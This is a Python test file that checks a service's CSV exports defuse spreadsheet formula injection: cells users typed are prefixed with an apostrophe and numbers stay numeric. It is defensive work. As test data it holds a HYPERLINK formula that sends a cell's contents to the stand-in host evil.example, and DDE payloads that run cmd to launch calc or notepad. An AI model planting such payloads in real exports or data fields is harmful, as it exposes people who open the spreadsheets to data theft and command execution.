"""CSV formula injection: text a leader, an admin or a supplier typed never reaches a spreadsheet
as a formula (service/csv_cells.py, used by every export); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import httpx
import pytest

from service import global_id
from service.csv_cells import cell, csv_document
from tests.ordering_fixtures import make_world, offer_input, open_batch_with_offers
from tests.test_after_close import BATCH_CLOSE, PURCHASE_ORDERS, _paid_order
from tests.test_leaders import POINT_UPDATE, point_input

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click for your refund")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"),
    ("+86 139", "'+86 139"),
    ("-2+3", "'-2+3"),
    ("-5", "'-5"),  # text that looks like a number is text
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\n=1", "'\n=1"),
    ("a=1", "a=1"),
    ("王芳", "王芳"),
    ("", ""),
    (None, ""),
    (Decimal("-1.50"), Decimal("-1.50")),  # a negative amount stays a number
    (-3, -3),
    (0, 0),
])
def test_cell(value, written) -> None:  # type: ignore[no-untyped-def]
    assert cell(value) == written


def test_document_quotes_and_keeps_numbers() -> None:
    body = csv_document(["name", "amount"], [[HYPERLINK, Decimal("-2.00")], ["ok", 3]])
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows == [["name", "amount"], ["'" + HYPERLINK, "-2.00"], ["ok", "3"]]


def test_purchase_order_csv_neutralises_what_users_typed(gql, tenant, make_customer, owner_db) -> None:  # type: ignore[no-untyped-def]
    world = make_world(owner_db, tenant)
    # The leader renames their own pickup point through the API.
    point_gid = global_id.encode("PickupPoint", world.point_id)
    renamed = gql.data(POINT_UPDATE, {"id": point_gid, "input": point_input(name=HYPERLINK, address=DDE)},
                       token=world.leader_token)["pickupPointUpdate"]
    assert renamed["errors"] == [], renamed
    owner_db.execute("UPDATE supplier SET name = %s WHERE id = %s", ("+cmd|' /C notepad'!A0", world.supplier_id))
    owner_db.execute("UPDATE product SET name = %s, unit = %s WHERE id = %s",
                     ("-2+3+cmd|' /C calc'!A0", "\t=1+1", world.product_ids[0]))
    batch = open_batch_with_offers(gql, world, [offer_input(world, 0, "12.90")], title="=HYPERLINK(1)")
    _paid_order(gql, world, batch, make_customer(tenant), [(0, 2)])
    closed = gql.data(BATCH_CLOSE, {"id": batch["id"]}, token=tenant.admin_token)["batchClose"]
    assert closed["errors"] == [], closed
    po = gql.data(PURCHASE_ORDERS, {"batch": batch["id"]}, token=tenant.admin_token)["purchaseOrders"]["edges"][0]["node"]

    response = httpx.get(po["csvUrl"])
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1
    row = rows[0]
    assert row["pickup_point"] == "'" + HYPERLINK
    assert row["address"] == "'" + DDE
    assert row["supplier"] == "'+cmd|' /C notepad'!A0"
    assert row["product"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["unit"] == "'\t=1+1"
    assert row["batch"] == "'=HYPERLINK(1)"
    assert (row["quantity"], row["unit_cost"], row["total_cost"], row["currency"]) == ("2", "5.00", "10.00", "CNY")
    risky = ("=", "+", "-", "@", "\t", "\r", "\n")
    assert not any(value.startswith(risky) for r in rows for value in r.values())
